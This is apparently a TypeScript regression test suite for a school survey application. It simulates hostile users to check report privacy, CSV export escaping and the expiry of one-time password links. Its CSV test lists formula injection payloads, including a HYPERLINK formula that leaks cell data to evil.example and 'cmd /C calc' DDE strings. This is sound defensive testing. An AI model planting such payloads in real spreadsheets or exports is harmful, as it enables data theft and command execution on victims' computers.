import type { Kysely } from 'kysely'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { buildApp } from '../../../server/app.ts'
import type { Database } from '../../../server/db/schema.ts'
import { createAuthService } from '../../../server/modules/auth/auth.service.ts'
import { createOrganisationService } from '../../../server/modules/organisations/organisations.service.ts'
import { generateResponses } from '../../../shared/domain/synthetic.ts'
import { dlV1 } from '../../../shared/instrument/dl-v1.ts'
import type { RoleId } from '../../../shared/instrument/types.ts'
import type { SubmitResponseBody } from '../../../shared/schemas/forms.ts'
import { SurveyReportSchema, type SurveyReport } from '../../../shared/schemas/reports.ts'
import { DAY } from '../../helpers/fixtures.ts'
import { countRows, createTestDb, resetDb, testDatabases } from '../../helpers/test-db.ts'
import { as, createWorld, PASSWORD, type Who, type World } from '../../helpers/world.ts'

// Attack tests for issue 9, items 6, 7, 8, 10, 11 and 12: each plays a curious or hostile user
// through the HTTP API and asserts that the attack gains nothing. Keep them as a regression suite.

type App = Awaited<ReturnType<typeof buildApp>>

describe.each(testDatabases())('attacks on %s', (kind) => {
  let db: Kysely<Database>
  let app: App
  let world: World
  let now = new Date()

  beforeAll(async () => {
    db = await createTestDb(kind)
    app = await buildApp({ db, now: () => now, loginRateLimit: 1000 })
  })
  afterAll(async () => {
    await app?.close()
    await db?.destroy()
  })
  beforeEach(async () => {
    now = new Date()
    await resetDb(db)
    world = await createWorld(db, now)
  })

  const request = (who: Who, method: 'GET' | 'POST' | 'PATCH', url: string, payload?: object) =>
    app.inject({ method, url, headers: as(world, who), ...(payload ? { payload } : {}) })
  const leader = (method: 'GET' | 'POST' | 'PATCH', url: string, payload?: object) => request('schoolLeader', method, url, payload)
  const report = async (surveyId: number): Promise<SurveyReport> => {
    const res = await leader('GET', `/api/surveys/${surveyId}/report`)
    expect(res.statusCode).toBe(200)
    return SurveyReportSchema.parse(res.json())
  }
  async function newSurvey(body: object = {}) {
    const res = await leader('POST', `/api/schools/${world.schoolA1}/surveys`, {
      title: 'Attack test survey',
      opensAt: new Date(now.getTime() - DAY).toISOString(),
      closesAt: new Date(now.getTime() + 10 * DAY).toISOString(),
      ...body,
    })
    expect(res.statusCode).toBe(201)
    const survey = res.json() as { id: number; link: string }
    expect((await leader('POST', `/api/surveys/${survey.id}/open`)).statusCode).toBe(200)
    return { id: survey.id, token: survey.link.split('/s/')[1]! }
  }
  const submit = async (token: string, bodies: SubmitResponseBody[]) => {
    for (const body of bodies) expect((await app.inject({ method: 'POST', url: `/api/forms/${token}/responses`, payload: body })).statusCode).toBe(201)
  }
  const close = async (id: number) => expect((await leader('POST', `/api/surveys/${id}/close`)).statusCode).toBe(200)

  /** `n` synthetic responses, each given the role (null: not stated). */
  const responses = (roles: [RoleId | null, number][], seed = 9) => {
    const total = roles.reduce((sum, [, n]) => sum + n, 0)
    const bodies = generateResponses({ instrument: dlV1, pattern: 4, respondents: total, seed })
    const withRoles = roles.flatMap(([role, n]) => Array.from({ length: n }, () => role))
    return bodies.map((body, i) => ({ ...body, role: withRoles[i]! }))
  }

  describe('9.6 withheld role groups', () => {
    it('a leader cannot tell from the withheld-groups list whether a lone senior leader answered', async () => {
      // Two closed surveys of 14 with the same groups shown; in one a single senior leader took part.
      const withSenior = await newSurvey()
      await submit(withSenior.token, responses([['teacher', 8], ['middle_leader', 3], [null, 2], ['senior_leader', 1]]))
      await close(withSenior.id)
      const withoutSenior = await newSurvey()
      await submit(withoutSenior.token, responses([['teacher', 8], ['middle_leader', 3], [null, 3]]))
      await close(withoutSenior.id)

      const a = await report(withSenior.id)
      const b = await report(withoutSenior.id)
      expect(a.groups.map((g) => g.group)).toEqual(['teacher'])
      expect(a.hiddenGroups).toEqual(b.hiddenGroups)
      expect(a.hiddenGroups.map((h) => h.group)).toEqual(['senior_leader', 'middle_leader', 'support_staff', 'other', 'unstated'])
      expect(a.suppression).toEqual(b.suppression)
      const withheldRows = (csv: string) => csv.split('\r\n').filter((line) => line.startsWith('suppressed,')).join('\n')
      const csvOf = async (id: number) => (await leader('GET', `/api/surveys/${id}/report.csv`)).body
      expect(withheldRows(await csvOf(withSenior.id))).toBe(withheldRows(await csvOf(withoutSenior.id)))
    })
  })

  describe('9.8 CSV formula injection', () => {
    const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']

    /** Every cell a spreadsheet would read that is text and begins like a formula. */
    const formulaCells = (csv: string) =>
      parseCsv(csv).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))

    it.each(FORMULAS.map((f) => [JSON.stringify(f), f]))('a school leader plants %s in a survey title and a school name for the trust leader, and no export runs it', async (_, formula) => {
      const res = await leader('POST', `/api/schools/${world.schoolA1}/surveys`, {
        title: `${formula} survey`,
        opensAt: new Date(now.getTime() - DAY).toISOString(),
        closesAt: new Date(now.getTime() + 10 * DAY).toISOString(),
      })
      expect(res.statusCode).toBe(201)
      const surveyId = (res.json() as { id: number }).id
      await createOrganisationService({ db }).createSchool({ name: `${formula} school`, trustId: world.trustA })

      const reportCsv = (await request('trustLeader', 'GET', `/api/surveys/${surveyId}/report.csv`)).body
      const overviewCsv = (await request('trustLeader', 'GET', `/api/trusts/${world.trustA}/overview.csv`)).body
      // the planted text is there (names are trimmed when stored), as text: a single quote in front
      expect(parseCsv(reportCsv).flat()).toContain(`'${formula.trim()} survey`)
      expect(parseCsv(overviewCsv).flat()).toContain(`'${formula.trim()} school`)
      expect(formulaCells(reportCsv)).toEqual([])
      expect(formulaCells(overviewCsv)).toEqual([])
    })
  })

  describe('9.11 one-time links', () => {
    const setPassword = (link: string, newPassword: string) =>
      app.inject({ method: 'POST', url: '/api/auth/password-links', payload: { token: link.split('#')[1], newPassword } })
    const signIn = (password: string) => app.inject({ method: 'POST', url: '/api/auth/login', payload: { email: world.emails.trustLeader, password } })

    it('an older reset link stolen from a mailbox no longer works once a newer one was used and the password changed', async () => {
      const auth = createAuthService({ db, now: () => now })
      const older = await auth.createPasswordLink(world.emails.trustLeader, 'reset', 'http://127.0.0.1:3000')
      const newer = await auth.createPasswordLink(world.emails.trustLeader, 'reset', 'http://127.0.0.1:3000')
      expect((await setPassword(newer, 'the leader chose this one')).statusCode).toBe(200)
      const attack = await setPassword(older, 'the attacker chose this')
      expect(attack.statusCode).toBe(404)
      expect((await signIn('the leader chose this one')).statusCode).toBe(200)
      expect((await signIn('the attacker chose this')).statusCode).toBe(401)
    })

    it('an invitation link issued before a reset link stops working when the reset link is issued', async () => {
      const auth = createAuthService({ db, now: () => now })
      const invitation = await auth.createPasswordLink(world.emails.trustLeader, 'invite', 'http://127.0.0.1:3000')
      await auth.createPasswordLink(world.emails.trustLeader, 'reset', 'http://127.0.0.1:3000')
      expect((await setPassword(invitation, 'the attacker chose this')).statusCode).toBe(404)
      expect((await signIn(PASSWORD)).statusCode).toBe(200)
    })

    it('an outstanding link stops working when the leader changes their password while signed in', async () => {
      const auth = createAuthService({ db, now: () => now })
      const link = await auth.createPasswordLink(world.emails.trustLeader, 'reset', 'http://127.0.0.1:3000')
      // issuing a reset link signed the leader out: they sign in again with their password
      const signedIn = await signIn(PASSWORD)
      expect(signedIn.statusCode).toBe(200)
      const cookie = String([signedIn.headers['set-cookie']].flat()[0]).split(';')[0]!
      const csrf = (signedIn.json() as { csrfToken: string }).csrfToken
      const changed = await app.inject({ method: 'POST', url: '/api/auth/password', headers: { cookie, 'x-csrf-token': csrf }, payload: { currentPassword: PASSWORD, newPassword: 'a fresh password of mine' } })
      expect(changed.statusCode).toBe(200)
      expect((await setPassword(link, 'the attacker chose this')).statusCode).toBe(404)
      expect((await signIn('a fresh password of mine')).statusCode).toBe(200)
    })
  })
})

/** RFC 4180 cells, as a spreadsheet program reads them (the byte-order mark dropped). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = text.startsWith('\uFEFF') ? 1 : 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++
      else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') row.push(cell), (cell = '')
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++
    else cell += c
  }
  return rows
}
